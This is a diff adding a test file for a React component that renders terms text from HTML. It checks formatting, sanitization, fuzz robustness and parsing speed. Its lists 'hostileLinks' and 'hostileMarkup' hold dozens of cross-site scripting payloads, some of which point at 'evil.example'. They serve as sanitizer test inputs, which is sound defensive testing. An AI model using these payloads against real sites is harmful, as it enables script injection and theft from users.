@@ -1,0 +1,145 @@
+import { render, screen, within } from '@testing-library/react'
+import * as fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { RichText } from '@/features/accounts/terms/RichText'
+import { readContent } from '@/features/accounts/terms/read-content'
+
+const textOf = (content: string) =>
+  readContent(content).map(({ words }) => words.map(({ text }) => text).join(''))
+
+test('plain text is paragraphs, and its tags are none', () => {
+  expect(textOf('Uno.\nsigue\n\n  Dos: 5 < 6 & 7 > 2.\r\n \r\nTres &amp; nada.')).toEqual([
+    'Uno.\nsigue',
+    'Dos: 5 < 6 & 7 > 2.',
+    'Tres &amp; nada.',
+  ])
+})
+
+test('simple HTML is headings, paragraphs, lists and links, below the title of the page', () => {
+  render(
+    <RichText
+      content={`<h1>Condiciones</h1><p>Se&ntilde;or vecino:&nbsp;<b>le&eacute;</b> &ldquo;todo&rdquo; &#38; &#x201C;m&aacute;s&#x201D;<br>gracias</p>
+        <h3>Puntos</h3><ul><li>Uno</li><li><p>Dos</p></li></ul><ol><li>Primero</li></ol>
+        Suelto. <a href="https://ejemplo.ar/ayuda" onclick="alert(1)">Ayuda</a> <a href="mailto:a@b.ar">Correo</a>`}
+    />,
+  )
+  expect(screen.getByRole('heading', { level: 2, name: 'Condiciones' })).toBeVisible()
+  expect(screen.getByRole('heading', { level: 4, name: 'Puntos' })).toBeVisible()
+  expect(screen.getByText('leé', { selector: 'strong' })).toBeVisible()
+  expect(screen.getByText(/“todo” & “más”\s+gracias/)).toBeVisible()
+  const [bullets, numbers] = screen.getAllByRole('list')
+  expect(
+    within(bullets as HTMLElement)
+      .getAllByRole('listitem')
+      .map(({ textContent }) => textContent),
+  ).toEqual(['Uno', 'Dos'])
+  expect(numbers).toHaveTextContent('Primero')
+  expect(screen.getByRole('link', { name: 'Ayuda' })).toHaveAttribute('href', 'https://ejemplo.ar/ayuda')
+  expect(screen.getByRole('link', { name: 'Ayuda' })).not.toHaveAttribute('onclick')
+  expect(screen.getByRole('link', { name: 'Correo' })).toHaveAttribute('href', 'mailto:a@b.ar')
+})
+
+const hostileLinks = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'jav&#x09;ascript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'blob:https://x/1',
+  'file:///etc/passwd',
+  '//evil.example',
+  '/relativa',
+  '\u0001javascript:alert(1)',
+  'https://ejemplo.ar/ javascript:alert(1)',
+]
+const hostileMarkup = [
+  '<script>document.title="robado"</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<ScRiPt>alert(1)</sCrIpT >',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext></mtext><style>*{display:none}</style></math>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="//evil.example"><input name=a><button>Enviar</button></form>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<p style="position:fixed;inset:0" onmouseover=alert(1)>x</p>',
+  '<b onclick=alert(1) id=root class=x>x</b>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<<img src=x onerror=alert(1)//<',
+  '<a href="x" onfocus=alert(1) autofocus>x</a>',
+  '<p title=">"<script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<h9>x</h9><x-portal>y</x-portal>',
+  '<li><li><ul></ol></li><p>',
+  '</p></div></h2>',
+  '<p>&#0;&#xD800;&#x110000;&#99999999;&nada;</p>',
+]
+
+test('of two hundred hostile texts only words are left', () => {
+  const links = hostileLinks.map((href) => `<a href="${href}">x</a>`)
+  const single = [...links, ...hostileLinks.map((href) => `<a href=${href}>x</a>`), ...hostileMarkup]
+  const texts = [
+    ...single,
+    ...single.map((text) => `<p>Antes ${text} después</p>`),
+    ...single.map((text) => `<ul><li>${text}`),
+    ...hostileMarkup.map((text) => text.toUpperCase()),
+  ]
+  expect(texts.length).toBeGreaterThanOrEqual(200)
+  const allowed = new Set(['DIV', 'H2', 'H3', 'H4', 'P', 'UL', 'OL', 'LI', 'A', 'STRONG', 'EM'])
+  const { title } = document
+  for (const text of texts) {
+    const { container, unmount } = render(<RichText content={text} />)
+    for (const element of container.querySelectorAll('*')) {
+      expect(allowed, text).toContain(element.tagName)
+      const names = element.getAttributeNames().filter((name) => name !== 'class')
+      expect(['', 'href,rel'], text).toContain(names.join())
+      if (element.hasAttribute('href'))
+        expect(element.getAttribute('href'), text).toMatch(/^(https?|mailto|tel):\S+$/)
+    }
+    unmount()
+  }
+  expect(document.title).toBe(title)
+})
+
+test('any text at all is read, and loses no word that stands outside a tag', () => {
+  fc.assert(
+    fc.property(
+      fc.array(
+        fc.constantFrom('<p>', '</p>', '<', '>', '"', "'", '<a href="', '&', ';', 'amp', 'x ', '<b', '/'),
+      ),
+      (pieces) => {
+        expect(() => readContent(pieces.join(''))).not.toThrow()
+      },
+    ),
+    { numRuns: 500, seed: 20260316 },
+  )
+  expect(textOf('<p>uno</p> dos <b>tres</b>')).toEqual(['uno', 'dos tres'])
+})
+
+test('a long text full of open tags is read in no time', () => {
+  const begun = performance.now()
+  readContent(`<p>${'<a href="'.repeat(20_000)}`)
+  readContent('<script>'.repeat(20_000))
+  readContent('<!--'.repeat(20_000))
+  expect(performance.now() - begun).toBeLessThan(2_000)
+})
